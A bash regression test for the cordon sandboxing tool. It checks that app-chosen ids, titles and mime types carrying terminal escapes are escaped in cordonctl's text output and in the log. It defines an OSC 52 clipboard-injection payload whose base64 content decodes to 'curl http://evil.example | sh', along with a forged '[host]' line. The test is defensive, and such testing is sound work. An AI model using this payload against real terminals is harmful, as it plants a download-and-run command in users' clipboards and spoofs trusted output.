#!/usr/bin/env bash
# Text an app chooses must not reach a terminal raw (SECURITY-NOTES): an app id carrying
# ESC ] 52 ; c ; ... BEL made foot put the app's text on the host clipboard when the user
# ran `cordonctl windows`, and a newline started a fake "[host]" line. Here a sandboxed
# client sets such an app id and title, and asks for (and offers) a mime type made the same
# way; the text output of cordonctl windows, transfers, selection and clients and cordon's
# own log (at debug level, where the app id and the mime type are printed) hold no raw ESC,
# BEL or newline from it and no line it started, while --json gives back the exact strings.
set -euo pipefail
source "$CORDON_SOURCE_ROOT/tests/lib/harness.sh"
source "$CORDON_SOURCE_ROOT/tests/clients/lib.sh"

payload=$'\e]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK\a'
evil="org.evil${payload}"$'\n[host] 1 org.trusted.App "Bank" pid=1 [host]'
evil_type="text/x-evil${payload}"$'\n[host] fake'

cordon_start --debug
test_cgroup app-flatpak-org.example.Evil-1.scope
start_client host-source "$TC/clip-client" --app-id host-source --copy hello
wait_for_window host-source
start_client evil "${IN_CGROUP[@]}" "$TEST_CGROUP" "$TC/clip-client" --app-id "$evil" \
	--paste "$evil_type"
wait_for_window "$evil"

# The host copies; the app asks for its own type, which is logged as a transfer.
ctl focus host-source >/dev/null
wait_for_focus host-source
ctl key click a >/dev/null
wait_log host-source '^copied '
id=$(windows_json | jq -r --arg a "$evil" 'first(.[] | select(.app_id == $a)).id')
ctl focus "$id" >/dev/null
wait_for_focus "$evil"
wait_input_trusted "$evil"
ctl key click a >/dev/null
_type_logged() {
	ctl --json transfers | jq -e --arg t "$evil_type" 'any(.[]; .mime_type == $t)' >/dev/null
}
wait_for "the app's mime type in the transfer log" _type_logged

# --json: exact, byte for byte.
windows_json | jq -e --arg a "$evil" 'any(.[]; .app_id == $a and .title == $a)' >/dev/null ||
	fail "the JSON windows do not give back the app id and title exactly"

# no_raw FILE WHAT: FILE holds no ESC, BEL or line the app started.
no_raw() {
	local file=$1 what=$2
	if grep -qP '[\x1b\x07]' "$file"; then
		fail "$what holds a raw ESC or BEL: $(grep -P '[\x1b\x07]' "$file" | od -c | head -n 5)"
	fi
	if grep -q '^\[host\]' "$file"; then
		fail "$what holds a line the app started: $(grep '^\[host\]' "$file")"
	fi
}
ctl windows >"$TEST_TMP/windows.txt"
no_raw "$TEST_TMP/windows.txt" "cordonctl windows"
assert_eq 2 "$(wc -l <"$TEST_TMP/windows.txt")" "lines of cordonctl windows (one per window)"
# The probe reached the listing: the app id is there, escaped.
grep -qF 'org.evil\x1b]52;c;' "$TEST_TMP/windows.txt" ||
	fail "the app's window is not in the listing: $(cat "$TEST_TMP/windows.txt")"
ctl transfers >"$TEST_TMP/transfers.txt"
no_raw "$TEST_TMP/transfers.txt" "cordonctl transfers"
grep -qF 'text/x-evil\x1b]52;c;' "$TEST_TMP/transfers.txt" ||
	fail "the app's mime type is not in the transfers: $(cat "$TEST_TMP/transfers.txt")"
assert_eq "$(ctl --json transfers | jq length)" "$(wc -l <"$TEST_TMP/transfers.txt")" \
	"lines of cordonctl transfers (one per transfer)"
ctl clients >"$TEST_TMP/clients.txt"
no_raw "$TEST_TMP/clients.txt" "cordonctl clients"
# Errors quote what the user typed, which may be pasted from an app: escaped too.
! ctl focus "$evil" >/dev/null 2>"$TEST_TMP/focus.err" || true
no_raw "$TEST_TMP/focus.err" "cordonctl's error message"

# The app copies, offering a type made the same way: cordonctl selection lists the types.
start_client evil-copy "${IN_CGROUP[@]}" "$TEST_CGROUP" "$TC/clip-client" --app-id evil-copy \
	--copy x --copy-type "$evil_type"
wait_for_window evil-copy
ctl focus evil-copy >/dev/null
wait_for_focus evil-copy
wait_input_trusted evil-copy
ctl key click a >/dev/null
_type_offered() {
	ctl --json selection | jq -e --arg t "$evil_type" '.[0].mime_types | index($t)' >/dev/null
}
wait_for "the app's copy to hold the clipboard" _type_offered
ctl selection >"$TEST_TMP/selection.txt"
no_raw "$TEST_TMP/selection.txt" "cordonctl selection"
grep -qF 'text/x-evil\x1b]52;c;' "$TEST_TMP/selection.txt" ||
	fail "the app's mime type is not in the selection: $(cat "$TEST_TMP/selection.txt")"
assert_eq 2 "$(wc -l <"$TEST_TMP/selection.txt")" \
	"lines of cordonctl selection (the clipboard and the primary selection)"

no_raw "$CORDON_LOG" "cordon's log"
grep -qF 'org.evil\x1b]52;c;' "$CORDON_LOG" ||
	fail "cordon's log does not show the app id (the probe did not reach it)"
grep -qF 'text/x-evil\x1b]52;c;' "$CORDON_LOG" ||
	fail "cordon's log does not show the mime type (the probe did not reach it)"
